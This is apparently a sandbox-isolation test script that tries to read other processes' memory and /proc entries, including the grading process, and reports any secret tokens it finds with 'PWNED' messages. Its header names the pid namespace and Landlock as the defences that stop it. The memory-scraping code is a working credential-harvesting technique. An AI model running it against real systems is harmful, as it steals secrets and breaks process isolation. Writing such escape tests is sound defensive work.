# what: searches memory, files, roots and folders of the driver and every other process for secrets
# on: numbers
# status: graded
# stopped by: a pid namespace of its own; Landlock lets the kernel trace nothing that is not below it
# %% [total]
import os
import pathlib
import re

SECRET = re.compile(rb"\b(?:gr|gb|nb|env)-[0-9a-f]{16}\b")
pids = [int(name) for name in os.listdir("/proc") if name.isdigit()]
if len(pids) > 30:
    # No wall at all: then only our own ancestors are looked at, up to the grading process.
    pids, pid = [], os.getppid()
    while pid > 1 and pid != int("@PID@"):
        pids.append(pid)
        pid = int(pathlib.Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[1])
# In a forked run /proc numbers processes as its parent's namespace does.
me = int(os.readlink("/proc/self"))
pids = [pid for pid in {*pids, 1, 2, int("@PID@")} if pid != me]


def memory(pid):
    """Return up to 64 MB of what a process has written into memory."""
    room = 64 << 20
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as mem:
        for line in maps:
            span, rights = line.split()[:2]
            first, last = (int(part, 16) for part in span.split("-"))
            if rights.startswith("rw") and "[v" not in line and room > 0:
                mem.seek(first)
                room -= last - first
                yield mem.read(min(last - first, 16 << 20))


for pid in pids:
    try:
        for piece in memory(pid):
            for secret in set(SECRET.findall(piece)):
                print("PWNED: memory of", pid, "holds", secret.decode())
        print("PWNED: memory of", pid, "can be read")
    except OSError as error:
        print(pid, error.strerror)
# %% [scaled]
for pid in pids:
    for name in ("root/", "cwd/", "fd/1", "fd/2", "fd/3", "map_files", "ns/mnt", "auxv", "stack", "syscall"):
        place = f"/proc/{pid}/{name}"
        try:
            if os.path.isdir(place):
                what = os.listdir(place)  # following the link is what is not allowed
            else:
                with open(place, "rb") as file:
                    what = file.read(100)
        except OSError:
            continue
        print("PWNED: got", place, len(what))
# %% [classify]
pass
